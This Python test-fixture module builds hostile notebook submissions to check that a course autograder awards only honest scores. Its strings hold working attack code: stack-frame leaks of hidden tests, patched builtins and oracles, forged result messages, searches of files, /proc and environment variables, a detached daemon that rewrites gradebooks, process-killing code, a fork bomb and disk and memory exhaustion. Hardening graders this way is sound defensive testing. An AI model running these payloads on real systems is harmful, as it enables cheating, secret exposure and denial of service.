"""Hostile submissions for the grader, built from the real exercises (used by
``test_grading_adversarial.py``).

Each ``Case`` is a notebook made from a chapter's student or solution notebook plus the cells of
an attack, and the exact score it must get: what its honest part earns, never more. The
attacks are the ones a determined student tried against the in-kernel grader: reading hidden
tests from the call stack, patching what the checks use, forging results, reading the
solutions, outliving the run, exhausting resources. ``MARKER`` tags every process an attack
starts, so the test can prove none survives.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from pathlib import Path

import nbformat

from course_lib.grading.notebook_format import course_metadata

ROOT = Path(__file__).resolve().parents[1]
MARKER = "course-adversary-7f3e"
VICTIM = "victim-written-by-kernel"


@dataclass(frozen=True)
class Case:
    name: str
    base: str  # "student", "solution", or "partial" (one task of the solution broken)
    cells: tuple[str, ...]  # appended at the end, in order
    score: float
    replace: tuple[tuple[str, str], ...] = ()  # (task id, new source) in the base


# What each chapter's attacks aim at: a function under test, and a task to break for "partial".
TARGETS = {
    "00_setup_and_tour": ("build_vocab", "encode-decode", "def encode(tokens, itos):\n    return []\n\n"
                          "def decode(ids, itos):\n    return []"),
    "01_ngram_language_models": ("add_k_prob", "perplexity",
                                 "def perplexity(logprobs):\n    return 1.0"),
    "02_hidden_markov_models": ("forward_loglik", "viterbi",
                                "def viterbi_path(log_pi, log_A, log_B, x):\n    return 0.0, [0]"),
}
FULL = {"00_setup_and_tour": 8.0, "01_ngram_language_models": 8.0, "02_hidden_markov_models": 10.0}
PARTIAL = {"00_setup_and_tour": 6.0, "01_ngram_language_models": 6.0,
           "02_hidden_markov_models": 5.0}


def attacks(function: str) -> list[tuple[str, str, tuple[str, ...]]]:
    """(name, base, cells) of every attack on ``function``; base 'student' scores 0."""
    f = function
    return [
        ("stack-walk-leak", "student", (f"""
import inspect
def {f}(*args, **kwargs):
    seen = []
    for info in inspect.stack():
        try:
            seen.append(inspect.getsource(info.frame))
        except Exception:
            pass
        seen.append(repr(info.frame.f_locals)[:3000])
    text = "".join(c if c.isalnum() else "_" for c in " ".join(seen))
    raise type("Leak_" + text[:20000], (Exception,), {{}})("LEAK " + " ".join(seen))
""",)),
        ("caller-frame-expected", "student", (f"""
import sys
def {f}(*args, **kwargs):
    frame = sys._getframe(1)
    while frame is not None:
        for key in ("expected", "expected_terms", "reference", "total", "brute"):
            if key in frame.f_locals:
                return frame.f_locals[key]
        frame = frame.f_back
    return None
""",)),
        ("patch-builtins", "student", ("""
import builtins
builtins.abs = lambda x: 0
builtins.isinstance = lambda *args: True
builtins.len = lambda x: 3
builtins.exec = lambda *args, **kwargs: None
builtins.compile = lambda *args, **kwargs: compile("pass", "x", "exec")
""",)),
        ("patch-display-and-warnings", "student", ("""
import IPython.display, warnings
IPython.display.display = lambda *args, **kwargs: None
class Quiet:
    def __enter__(self): return self
    def __exit__(self, *exc): return True
warnings.catch_warnings = Quiet
""",)),
        ("settrace-and-profile", "student", ("""
import sys, threading
def tracer(frame, event, arg):
    if event == "exception":
        frame.f_locals.clear()
    return tracer
sys.settrace(tracer)
threading.settrace(tracer)
sys.setprofile(lambda *args: None)
""",)),
        ("meta-path-hook", "student", ("""
import sys, types, importlib.abc, importlib.machinery
class Fake(importlib.abc.Loader, importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.startswith("course_lib") or name in ("math", "numpy", "torch"):
            return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.assert_close = lambda *args, **kwargs: None
        module.isclose = lambda *args, **kwargs: True
sys.meta_path.insert(0, Fake())
for name in [m for m in sys.modules if m.startswith("course_lib")]:
    del sys.modules[name]
""",)),
        ("fake-modules-with-spec", "student", ("""
import sys, types, importlib.machinery
for name in ("course_lib.grading.checks", "course_lib.text", "course_lib.ngram",
             "course_lib.grading.agent", "course_lib.grading.wire"):
    fake = types.ModuleType(name)
    fake.__spec__ = importlib.machinery.ModuleSpec(name, None, origin="/fake.py")
    fake.assert_close = lambda *args, **kwargs: None
    fake.call = lambda *args, **kwargs: None
    sys.modules[name] = fake
""",)),
        ("patch-oracles", "student", ("""
import math, numpy, torch
math.isclose = lambda *args, **kwargs: True
numpy.isclose = lambda *args, **kwargs: True
numpy.allclose = lambda *args, **kwargs: True
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
""",)),
        ("always-equal-object", "student", (f"""
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __abs__(self): return 0
    def __lt__(self, other): return True
    def __float__(self): return 0.0
    def __iter__(self): return iter([Anything(), Anything()])
    def __getitem__(self, key): return Anything()
    def __len__(self): return 2
def {f}(*args, **kwargs):
    return Anything()
""",)),
        ("subclassed-builtins", "student", (f"""
class Zero(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return Zero(0)
    def __abs__(self): return Zero(0)
    __hash__ = float.__hash__
class Same(list):
    def __eq__(self, other): return True
def {f}(*args, **kwargs):
    return Same([Zero(1.0), Zero(2.0)])
""",)),
        ("shadow-builtins-hostile", "student", ("""
def abs(x):
    return 0
def list(x=()):
    return ["<pad>", "<unk>", "<bos>", "<eos>", "b", "a", "c"]
len = lambda x: 3
isinstance = lambda *args: True
float = type("float", (), {})
""",)),
        ("forge-agent-result", "student", ("""
import IPython.display
import course_lib.grading.agent as agent
def call(name, payload):
    IPython.display.display({agent.RESULT_MIME: {"status": "ok", "value": '["bool", true]',
                                                 "changed": []}}, raw=True)
agent.call = call
agent.describe = lambda names: IPython.display.display(
    {agent.RESULT_MIME: {n: {"kind": "callable"} for n in names}}, raw=True)
IPython.display.display({"application/vnd.course.test-result+json": {"status": "passed"}},
                        raw=True)
""",)),
        ("stash-hidden-inputs", "student", (f"""
STASH = []
def {f}(*args, **kwargs):
    STASH.append(repr(args)[:2000])
    raise AssertionError("STASH " + " | ".join(STASH))
""",)),
        ("read-solutions", "student", (f"""
import os, sys, glob
found = []
for root in ["/", os.path.expanduser("~"), os.getcwd()]:
    for dirpath, dirnames, filenames in os.walk(root):
        if dirpath.startswith(("/proc", "/sys", "/usr", "/dev")):
            continue
        for name in filenames:
            path = os.path.join(dirpath, name)
            try:
                if name.endswith(".ipynb") and "BEGIN SOLUTION" in open(path, errors="ignore").read():
                    found.append(path)
            except OSError:
                pass
for pid in os.listdir("/proc"):
    try:
        found.append(open(f"/proc/{{pid}}/cmdline").read())
    except OSError:
        pass
import course_lib
found += glob.glob(os.path.join(os.path.dirname(os.path.dirname(course_lib.__file__)), "solutions", "*"))
found += [k + "=" + v for k, v in os.environ.items()]
solutions = [p for p in found if p.endswith(".ipynb") and os.path.exists(p)]
if solutions:
    import json
    for cell in json.load(open(solutions[0]))["cells"]:
        if cell.get("metadata", {{}}).get("course", {{}}).get("kind") == "solution":
            exec("".join(cell["source"]))
def {f}(*args, **kwargs):
    raise RuntimeError("FOUND " + repr(found)[:20000])
""",)),
        ("network", "student", ("""
import socket
for host, port in [("127.0.0.1", 22), ("127.0.0.1", 8888), ("10.0.0.1", 80), ("::1", 80)]:
    try:
        socket.create_connection((host, port), timeout=1).close()
        raise SystemExit("connected")
    except OSError:
        pass
""",)),
        ("exchange-symlink", "student", (f"""
import os, sys
folder = os.path.dirname(next(a for a in sys.argv if a.endswith("kernel.json")))
for n in range(1, 200):
    try:
        os.symlink("../../{VICTIM}", os.path.join(folder, f"call-{{n}}.pickle"))
    except OSError:
        pass
def {f}(*args, **kwargs):
    return None
""",)),
        ("setsid-daemon-rewrites-results", "solution", (f"""
import subprocess, sys
code = '''
import json, os, time
time.sleep(4)
fake = json.dumps({{"score": 1000, "status": "graded"}})
for folder in ["/tmp", os.path.expanduser("~"), "/", "..", "../..", "grading-output", "out"]:
    for name in ["result.json", "results.json", "gradebook.csv"]:
        try:
            open(os.path.join(folder, name), "w").write(fake)
        except OSError:
            pass
'''
subprocess.Popen(["setsid", sys.executable, "-c", code + "# {MARKER}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",)),
        ("kill-parent-and-everyone", "solution", ("""
import os, signal
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
for pid in range(2, 3000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
""", """
import os, signal
os.killpg(0, signal.SIGKILL)
""")),
        ("fork-bomb", "solution", (f"""
import os, time
children = 0
for _ in range(5000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os.execv("/bin/sleep", ["sleep", "300", "{MARKER}"])
    children += 1
print(children)
""",)),
        ("fill-disk-and-memory", "solution", ("""
with open("big.bin", "wb") as handle:
    for _ in range(2048):
        handle.write(b"x" * 2**20)
""", "hog = bytearray(16 * 2**30)", """
with open("/tmp/big.bin", "wb") as handle:
    for _ in range(2048):
        handle.write(b"x" * 2**20)
""")),
        ("six-crashing-cells", "solution", tuple("import os\nos._exit(1)" for _ in range(6))),
        ("exception-name-flood", "student", (f"""
def {f}(*args, **kwargs):
    raise type("E" * 100_000, (ValueError,), {{}})("M" * 100_000)
""",)),
        ("deep-recursion-return", "student", (f"""
def {f}(*args, **kwargs):
    value = []
    for _ in range(100_000):
        value = [value]
    return value
""",)),
    ]


# Attacks on the machine rather than on the checks: slow, so graded on one chapter only.
RESOURCE_ATTACKS = ("read-solutions", "network", "setsid-daemon-rewrites-results",
                    "kill-parent-and-everyone", "fork-bomb", "fill-disk-and-memory",
                    "six-crashing-cells")
RESOURCE_CHAPTER = "02_hidden_markov_models"


def chapter_cases(chapter: str) -> list[Case]:
    """Honest controls and the attacks for one chapter's exercise."""
    function, task, broken = TARGETS[chapter]
    full, partial = FULL[chapter], PARTIAL[chapter]
    cases = [
        Case("control-untouched", "student", (), 0.0),
        Case("control-solution", "solution", (), full),
        Case("control-partial", "solution", (), partial, replace=((task, broken),)),
        # Names that shadow builtins the tests use (not the student's own functions): the
        # tests run in the grader, so an honest notebook loses nothing.
        Case("control-builtin-names", "solution", (
            "list = [1, 2, 3]\ndict = {'a': 1}\nabs = 'not a function'\nall = any = None",), full),
    ]
    for name, base, cells in attacks(function):
        if name in RESOURCE_ATTACKS and chapter != RESOURCE_CHAPTER:
            continue
        score = {"student": 0.0, "solution": full}[base]
        if name == "six-crashing-cells":
            cells = cells[:3] + ("x_after_crashes = 1",) + cells[3:]
        cases.append(Case(name, base, cells, score))
    return cases


def build(chapter: str, case: Case) -> nbformat.NotebookNode:
    """The notebook of ``case``."""
    folder = "exercises" if case.base == "student" else "solutions"
    notebook = copy.deepcopy(nbformat.read(ROOT / folder / f"{chapter}.ipynb", as_version=4))
    for task, source in case.replace:
        cell = next(c for c in notebook.cells if course_metadata(c).get("id") == task)
        cell.source = source
    for source in case.cells:
        notebook.cells.append(nbformat.v4.new_code_cell(source.strip("\n")))
    return notebook
